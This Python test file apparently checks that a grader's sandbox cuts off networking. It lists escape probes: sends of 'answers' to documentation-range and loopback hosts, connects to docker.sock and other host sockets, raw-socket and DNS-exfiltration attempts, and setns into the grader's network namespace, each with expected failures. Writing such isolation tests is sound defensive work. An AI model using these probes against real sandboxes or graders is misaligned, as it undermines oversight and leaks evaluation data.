"""There is no network: nothing outside can be reached, and nobody outside hears anything.

Addresses are loopback, where the grader's own listeners are, or in ranges reserved for documentation.
"""

from hostile_attack import Attack

ATTACKS = (
    Attack(
        name="tcp",
        what="connects to loopback and to other hosts over TCP, IPv4 and IPv6",
        cells=(
            """
import socket
addresses = [('127.0.0.1', {tcp_port}), ('192.0.2.1', 80), ('198.51.100.7', 443), ('2001:db8::1', 80),
             ('::ffff:127.0.0.1', {tcp_port})]
for address in addresses:
    try:
        socket.create_connection(address, timeout=1).send(b'answers')
        print('connected')
    except OSError as error:
        print(address[0], type(error).__name__, error)
""",
            "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/answers', timeout=1)",
        ),
        inside=r"^127.0.0.1 ConnectionRefusedError .*\n(\S+ OSError .*unreachable\n){3}::ffff:\S+ (OSError|Conn).*\n$",
        says="URLError: .*[Nn]etwork",
        status="errors",
    ),
    Attack(
        name="udp",
        what="sends datagrams to loopback, to other hosts and to everybody",
        cells=(
            """
import socket
speaker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
speaker.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
speaker.sendto(b'answers', ('127.0.0.1', {udp_port}))
for host in ['192.0.2.1', '203.0.113.9', '255.255.255.255', '224.0.0.1']:
    try:
        speaker.sendto(b'answers', (host, 53))
        print('sent')
    except OSError as error:
        print(host, error)
""",
            "speaker.sendto(b'answers', ('192.0.2.1', 53))",
        ),
        inside=r"^(\S+ .*[Nn]etwork is unreachable\n){4}",
        says="OSError: .*Network is unreachable",
        status="errors",
    ),
    Attack(
        name="unix_sockets",
        what="connects to sockets of the host in the file system and in the abstract name space",
        cells=(
            """
import os, socket
for name in ['{unix_socket}', '\\0{abstract_socket}', '/run/dbus/system_bus_socket', '/var/run/docker.sock',
             '\\0/tmp/.X11-unix/X0', '/run/systemd/private']:
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print('connected')
    except OSError as error:
        print(repr(name), type(error).__name__)
print('abstract names', [line.split()[-1] for line in open('/proc/net/unix') if '@' in line])
""",
            "socket.socket(socket.AF_UNIX).connect('{unix_socket}')",
        ),
        inside=r"^('[^']+' (FileNotFoundError|ConnectionRefusedError)\n){6}abstract names \[\]",
        says="FileNotFoundError: .*No such file",
        status="errors",
    ),
    Attack(
        name="odd_families",
        what="opens netlink, vsock, packet, raw, Bluetooth, kernel crypto and other sockets",
        cells=(
            """
import itertools, socket
def opens(family, kind, protocol):
    try:
        with socket.socket(family, kind, protocol):
            return True
    except OSError:
        return False
usual = (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6)
families = [family for family in range(1, 64) if family not in usual]
kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)
opened = {(family, protocol) for family, kind, protocol in itertools.product(families, kinds, range(24))
          if opens(family, kind, protocol)}
print('unusual', opened - {(socket.AF_NETLINK, 0)})  # the list of interfaces: loopback alone
print('raw', [family for family in usual[1:] for number in range(256) if opens(family, socket.SOCK_RAW, number)])
""",
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        ),
        inside=r"^unusual set\(\)\nraw \[\]\n$",
        says="(PermissionError|OSError): .*(not permitted|not supported)",
        status="errors",
    ),
    Attack(
        name="dns",
        what="looks up names, where a secret could travel in the question",
        cells=(
            """
import socket
for name in ['secret.example', 'example.com', 'answers.invalid']:
    try:
        print('found', socket.gethostbyname(name))
    except OSError as error:
        print(type(error).__name__)
print(socket.gethostname())
""",
            "socket.getaddrinfo('example.com', 80)",
        ),
        inside=r"^(gaierror\n){3}sandbox\n",
        says="gaierror: .*(resolution|not known)",
        status="errors",
    ),
    Attack(
        name="bring_up_a_network",
        what="makes a network interface, or enters the grader's network",
        cells=(
            """
import ctypes, fcntl, os, socket, struct
print('interfaces', [name for _, name in socket.if_nameindex()])
libc = ctypes.CDLL(None, use_errno=True)
for path in ['/proc/1/ns/net', '/proc/self/ns/net', '/proc/{grader_pid}/ns/net']:
    try:
        descriptor = os.open(path, os.O_RDONLY)
    except OSError as error:
        print(type(error).__name__)
    else:
        print('setns', libc.setns(descriptor, 0), os.strerror(ctypes.get_errno()))
for path in ['/dev/net/tun', '/dev/vhost-net', '/dev/vsock']:
    print(os.path.exists(path))
""",
            "fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8914, struct.pack('16sh', b'lo', 0x49))",
        ),
        inside=r"^interfaces \['lo'\]\n((PermissionError|FileNotFoundError|setns -1 .*)\n){3}(False\n){3}",
        says="PermissionError: .*not permitted",
        status="errors",
    ),
)
